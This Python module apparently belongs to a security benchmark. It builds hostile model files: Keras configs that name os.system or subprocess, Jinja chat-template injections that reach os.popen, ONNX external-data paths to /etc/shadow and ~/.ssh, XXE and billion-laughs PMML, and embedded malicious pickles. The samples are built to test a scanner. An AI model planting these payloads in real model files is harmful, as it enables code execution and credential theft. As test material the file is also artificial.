"""Hostile model formats: configurations, graphs, templates and headers whose own features run code or reach files."""

from __future__ import annotations

import gzip
import json
import struct
from collections.abc import Iterator
from typing import Any

from benchmarks._artifact_containers import EVIL, array, zipped
from benchmarks._artifact_pickles import Sample


def _keras(layers: list[dict[str, Any]], **extra: Any) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": layers}, **extra}
    members = (("metadata.json", b'{"keras_version": "3.4.0"}'), ("config.json", json.dumps(config).encode()))
    return zipped(*members, ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64)))


def keras_files() -> Iterator[Sample]:
    """Yield Keras archives whose configuration names code."""
    function = {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": None, "closure": None}}
    built: dict[str, list[dict[str, Any]]] = {
        "lambda": [{"module": "keras.layers", "class_name": "Lambda", "config": {"function": function}}],
        "lambda-named": [{"module": "keras.layers", "class_name": "Lambda", "config": {"function": "os.system"}}],
        "lambda-no-module": [{"class_name": "Lambda", "config": {"function": ["4wEAAAA=", None, None]}}],
        "nested-lambda": [
            {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": {
                "module": "keras.layers", "class_name": "Lambda", "config": {"function": function}}}}
        ],
        "function-module": [
            {"module": "keras.layers", "class_name": "Dense", "config": {"activation": {
                "module": "os", "class_name": "function", "config": "system", "registered_name": "system"}}}
        ],
        "builtins": [{"module": "builtins", "class_name": "exec", "config": {}}],
        "subprocess": [{"module": "subprocess", "class_name": "Popen", "config": {"args": "true"}}],
        "torch-wrapper": [
            {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": "gASVBA=="}}
        ],
        "own-class": [{"module": "acme.layers", "class_name": "Gate", "config": {}, "registered_name": "acme>Gate"}],
        "vocabulary": [
            {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}
        ],
        "utils-module": [{"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://x.example"}}],
        "load-model": [{"module": "keras.models", "class_name": "load_model", "config": {"filepath": "x.keras"}}],
    }  # fmt: skip
    for name, layers in built.items():
        yield "keras", f"{name}.keras", _keras(layers)
    yield "keras", "compile-module.keras", _keras([], compile_config={"optimizer": {
        "module": "os", "class_name": "system", "config": {}}})  # fmt: skip
    yield "keras", "traversal.keras", zipped(("metadata.json", b"{}"), ("config.json", b"{}"), ("../x.py", b"x = 1"))
    yield (
        "keras",
        "assets-pickle.keras",
        zipped(("metadata.json", b"{}"), ("config.json", b"{}"), ("assets/v.pkl", EVIL)),
    )
    model = json.dumps({"class_name": "Sequential", "config": {"layers": built["lambda-no-module"]}}).encode()
    yield "keras", "attribute.h5", b"\x89HDF\r\n\x1a\n" + bytes(88) + b"model_config\0" + model


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes(out) + bytes([number])


def _field(number: int, data: bytes | str | int) -> bytes:
    """One field of a protocol buffer."""
    if isinstance(data, int):
        return _varint(number << 3) + _varint(data)
    content = data.encode() if isinstance(data, str) else data
    return _varint(number << 3 | 2) + _varint(len(content)) + content


def onnx(*, location: str = "", domain: str = "", kind: str = "Relu", library: str = "") -> bytes:
    """Return an ONNX model of one node and perhaps one external tensor."""
    node = _field(1, "x") + _field(2, "y") + _field(4, kind) + (_field(7, domain) if domain else b"")
    external = _field(13, _field(1, "location") + _field(2, location)) + _field(14, 1) if location else b""
    tensor = _field(1, 1) + _field(2, 1) + _field(8, "w") + external
    graph = _field(1, node) + _field(2, "g") + (_field(5, tensor) if location else b"")
    meta = _field(14, _field(1, "ort_library") + _field(2, library)) if library else b""
    opset = _field(8, (_field(1, domain) if domain else b"") + _field(2, 17))
    return _field(1, 8) + _field(2, "pytorch") + _field(7, graph) + opset + meta


def _gguf_text(text: str) -> bytes:
    return struct.pack("<Q", len(text.encode())) + text.encode()


def gguf(**entries: str) -> bytes:
    """Return a GGUF file of metadata texts."""
    body = b"".join(
        _gguf_text(key.replace("__", ".")) + struct.pack("<I", 8) + _gguf_text(v) for key, v in entries.items()
    )
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(entries)) + body


def other_format_files() -> Iterator[Sample]:
    """Yield formats whose own features read files, reach the network or run code."""
    for name, path in (
        ("parent", "../../../etc/passwd"), ("absolute", "/etc/shadow"), ("windows", "..\\..\\x"), ("home", "~/.ssh/id"),
    ):  # fmt: skip
        yield "onnx", f"external-{name}.onnx", onnx(location=path)
    yield "onnx", "python-op.onnx", onnx(domain="ai.onnx.contrib", kind="PyOp")
    yield "onnx", "own-domain.onnx", onnx(domain="com.acme", kind="Shell")
    for name, template in (
        ("class", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("cycler", "{{ cycler.__init__.__globals__.os.popen('true').read() }}"),
        ("attr", "{{ (messages|attr('_'~'_class_'~'_'))|attr('mro') }}"),
        ("lipsum", "{% set x = lipsum.__globals__['os'] %}{{ x.system('true') }}"),
    ):
        yield "gguf", f"template-{name}.gguf", gguf(tokenizer__chat_template=template)
        config = json.dumps({"tokenizer_class": "X", "chat_template": template}).encode()
        yield "gguf", f"tokenizer-{name}.zip", zipped(("tokenizer_config.json", config))
    yield "gguf", "count.gguf", b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60)
    yield "gguf", "length.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62)
    for name, header in (
        ("length", struct.pack("<Q", 1 << 50) + b"{}"), ("negative", struct.pack("<q", -1) + b"{}"),
        ("duplicate", _tensors("{" + ",".join(['"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}'] * 2) + "}", 1)),
        ("overlap", _tensors(
            '{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},'
            '"b":{"dtype":"U8","shape":[2],"data_offsets":[1,3]}}', 3)),
        ("hole", _tensors('{"a":{"dtype":"U8","shape":[1],"data_offsets":[8,9]}}', 9)),
        ("trailing", _tensors('{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', 4000)),
        ("huge-shape", _tensors('{"a":{"dtype":"F64","shape":[9999999999,9999999999],"data_offsets":[0,8]}}', 8)),
    ):  # fmt: skip
        yield "safetensors", f"{name}.safetensors", header
    yield from _skops_files()
    entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML version="4.4">&e;</PMML>'
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><PMML version="4.4">&b;</PMML>'
    )
    yield "pmml", "entity.pmml", entity.encode()
    yield "pmml", "entity-utf16.pmml", entity.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
    yield "pmml", "laughs.pmml", laughs.encode()
    yield "pmml", "external.pmml", b'<!DOCTYPE PMML SYSTEM "http://x.example/e.dtd"><PMML version="4.4"/>'
    yield (
        "pmml",
        "inclusion.pmml",
        (
            b'<PMML version="4.4" xmlns:xi="http://www.w3.org/2001/XInclude">'
            b'<xi:include href="/etc/passwd" parse="text"/></PMML>'
        ),
    )
    yield "saved-model", "py-func.pb", saved_model("PyFunc")
    yield "saved-model", "write-file.pb", saved_model("WriteFile")
    yield "saved-model", "read-file.pb", saved_model("ReadFile")
    yield "saved-model", "zipped.zip", zipped(("model/saved_model.pb", saved_model("WriteFile")))
    yield "tabular", "hdf-pickle.h5", b"\x89HDF\r\n\x1a\n" + bytes(88) + b"pandas_type\0" + EVIL
    yield "tabular", "metadata.parquet", b"PAR1" + EVIL + b"pandas" + struct.pack("<I", len(EVIL) + 6) + b"PAR1"
    yield "tabular", "metadata.feather", b"ARROW1\0\0" + b"ARROW:extension:metadata" + EVIL + bytes(8) + b"ARROW1"
    yield (
        "tabular",
        "objects.rds",
        gzip.compress(b"X\n\x00\x00\x00\x03\x00\x04\x02\x01\x00\x03\x05\x00" + bytes(40), mtime=0),
    )


def _tensors(header: str, size: int) -> bytes:
    return struct.pack("<Q", len(header)) + header.encode() + bytes(size)


def saved_model(operation: str) -> bytes:
    """Return a SavedModel whose graph has one operation."""
    node = _field(1, "n") + _field(2, operation)
    return _field(1, 1) + _field(2, _field(1, _field(3, "2.15")) + _field(2, _field(1, node)))


def _skops_files() -> Iterator[Sample]:
    def schema(module: str, name: str, loader: str, **more: Any) -> bytes:
        node = {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **more}
        return zipped(("schema.json", json.dumps({**node, "protocol": 2, "_skops_version": "0.11"}).encode()))

    yield (
        "skops",
        "function.skops",
        schema("os", "system", "FunctionNode", content={"module_path": "os", "function": "system"}),
    )
    yield "skops", "object.skops", schema("subprocess", "Popen", "ObjectNode", content=None)
    yield "skops", "constructor.skops", schema("builtins", "eval", "ConstructorFromDict", content={"a": "1"})
    yield "skops", "type.skops", schema("acme.models", "Scaler", "TypeNode")
    yield "skops", "operator.skops", schema("operator", "methodcaller", "OperatorFuncNode", attrs={"args": ["system"]})
    yield "skops", "method.skops", schema("builtins", "int", "MethodNode", content={"func": "__class__", "obj": None})
    yield (
        "skops",
        "pickle.skops",
        zipped(
            ("schema.json", b'{"__class__":"x","__module__":"numpy","__loader__":"NdArrayNode"}'),
            ("1.npy", array("'|O'", EVIL)),
        ),
    )
